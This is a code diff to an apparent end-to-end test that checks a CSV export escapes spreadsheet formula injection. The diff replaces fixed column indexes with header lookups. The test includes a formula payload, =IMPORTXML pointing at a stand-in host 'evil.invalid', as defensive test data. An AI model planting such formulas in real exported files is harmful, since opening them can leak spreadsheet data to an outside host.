@@ -292,12 +292,14 @@ describe("hostile files", () => {
     const csv = await readFile(await download.path(), "utf8");
     const records = parseCsv(csv);
     const [header, ...rows] = records;
-    assert.equal(header[5], "quote");
+    const quoteAt = header.indexOf("quote");
+    const headlineAt = header.indexOf("headline");
+    assert.ok(quoteAt >= 0 && headlineAt >= 0, JSON.stringify(header));
     // Every cell a spreadsheet would run starts with an apostrophe instead.
     for (const cell of records.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
-    const quotes = rows.map((r) => r[5]);
+    const quotes = rows.map((r) => r[quoteAt]);
     for (const f of formulas) assert.ok(quotes.includes(`'${f}`), `${f} in ${JSON.stringify(quotes)}`);
-    assert.ok(rows.every((r) => r[0] === "'=IMPORTXML(\"http://evil.invalid\",\"//a\")"), "the headline too");
+    assert.ok(rows.every((r) => r[headlineAt] === "'=IMPORTXML(\"http://evil.invalid\",\"//a\")"), "the headline too");
 
     const [json] = await Promise.all([page.waitForEvent("download"), page.click("[data-testid=export-json]")]);
     const text = await readFile(await json.path(), "utf8");
